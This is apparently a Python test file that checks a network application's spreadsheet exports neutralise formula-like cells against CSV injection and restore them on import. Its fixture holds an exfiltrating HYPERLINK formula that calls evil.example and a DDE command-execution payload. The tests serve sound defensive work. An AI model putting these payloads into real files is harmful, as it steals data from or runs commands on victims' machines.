"""Spreadsheet exports: formula-like cells are neutralised (OWASP CSV injection), and our import undoes it."""

from __future__ import annotations

import csv
import io
import zipfile
from types import SimpleNamespace

from hypothesis import given
from hypothesis import strategies as st

from graph.io import export_network, import_document, import_file
from graph.privacy import subject_csv, subject_data
from graph.spreadsheet import FORMULA_START, is_formula_like, neutralise_cell, restore_cell
from graph.store import open_store

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
    "phone": "+49 2191 123456",
    "address": "-2+3, Remscheid",
}


@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\rab c")), max_size=8))
def test_neutralise_and_restore_are_exact_inverses(value):
    safe = neutralise_cell(value)
    assert not (isinstance(safe, str) and safe[:1] in FORMULA_START)
    assert restore_cell(safe) == value


def test_only_formula_like_texts_change():
    assert neutralise_cell("Köprü e.V.") == "Köprü e.V."
    assert neutralise_cell(1987) == 1987 and neutralise_cell(-3) == -3
    for start in FORMULA_START:
        assert neutralise_cell(start + "1") == "'" + start + "1"


def _hostile_store(tmp_path, demo_doc):
    store = open_store(f"sqlite:///{tmp_path}/hostile.db")
    doc = {k: demo_doc[k] for k in ("organisations", "cooperations")}
    doc["organisations"] = [dict(o) for o in doc["organisations"]]
    doc["organisations"][0].update(HOSTILE)
    import_document(store, doc)
    return store


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text), delimiter=";") for c in row]


def test_csv_export_neutralises_and_round_trips(tmp_path, demo_doc):
    store = _hostile_store(tmp_path, demo_doc)
    net = store.snapshot().network
    files = export_network(net, "csv", tmp_path / "orgs.csv")
    cells = _cells(files[0].read_text(encoding="utf-8-sig"))
    assert "'" + HOSTILE["name"] in cells and "'" + HOSTILE["phone"] in cells
    assert not [c for c in cells if c[:1] in FORMULA_START]
    other = open_store(f"sqlite:///{tmp_path}/again.db")
    try:
        for f in sorted(files, key=lambda p: len(p.name)):
            import_file(other, f)
        assert other.snapshot().network.to_dict()["organisations"] == net.to_dict()["organisations"]
    finally:
        other.close()
        store.close()


def test_xlsx_export_has_no_formulas_and_round_trips(tmp_path, demo_doc):
    from openpyxl import load_workbook

    store = _hostile_store(tmp_path, demo_doc)
    net = store.snapshot().network
    path = tmp_path / "net.xlsx"
    export_network(net, "xlsx", path)
    with zipfile.ZipFile(path) as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in s or b"<f " in s for s in sheets), "a cell was written as a formula"
    ws = load_workbook(path)["Organisationen"]
    found = {c.value: c for row in ws.iter_rows(min_row=2) for c in row if is_formula_like(c.value)}
    for value in HOSTILE.values():
        assert found[value].data_type == "s" and found[value].quotePrefix, value
    other = open_store(f"sqlite:///{tmp_path}/again.db")
    try:
        import_file(other, path)
        assert other.snapshot().network.to_dict()["organisations"] == net.to_dict()["organisations"]
    finally:
        other.close()
        store.close()


def test_meeting_plan_csv_neutralises_names_and_themes():
    from web.meeting_plans import plan_csv

    plan = SimpleNamespace(rounds=[[["a", "b"]]], theme=lambda t: "@Thema")
    cells = _cells(plan_csv(plan, {"a": "=1+1", "b": "-Verein"}))
    assert {"'=1+1", "'-Verein", "'@Thema"} <= set(cells)
    assert not [c for c in cells if c[:1] in FORMULA_START]


def test_subject_export_neutralises(tmp_path, demo_doc):
    store = _hostile_store(tmp_path, demo_doc)
    try:
        org = demo_doc["organisations"][0]["id"]
        rows = list(csv.reader(io.StringIO(subject_csv(subject_data(store, "organisation", org)))))
        cells = [c for row in rows for c in row]
        assert "'" + HOSTILE["name"] in cells
        assert not [c for c in cells if c[:1] in FORMULA_START]
    finally:
        store.close()
